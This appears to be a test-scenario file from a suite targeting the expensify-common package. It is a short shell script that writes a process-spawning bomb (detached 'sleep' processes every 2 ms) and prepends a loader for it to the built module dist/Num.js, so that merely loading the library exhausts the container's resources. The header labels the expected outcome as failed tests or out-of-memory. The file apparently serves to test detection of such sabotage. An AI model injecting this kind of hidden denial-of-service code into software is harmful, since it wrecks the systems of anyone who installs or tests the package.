# threat: 12
# suite: expensify-common
# verdict: fail tests-failed | fail out-of-memory
# always: yes
# why: Loading the module sets off such a bomb in the container in which it is tested.
cat > bomb.js <<'END'
const {spawn} = require('node:child_process');
setInterval(() => {
    try { spawn('sleep', ['600'], {detached: true, stdio: 'ignore'}).on('error', () => {}); } catch {}
}, 2);
END
cat > head.js <<'END'
require('node:child_process').spawn(process.execPath, [`${__dirname}/../bomb.js`], {detached: true, stdio: 'ignore'}).unref();
END
cat head.js dist/Num.js > /tmp/Num.js
cat /tmp/Num.js > dist/Num.js
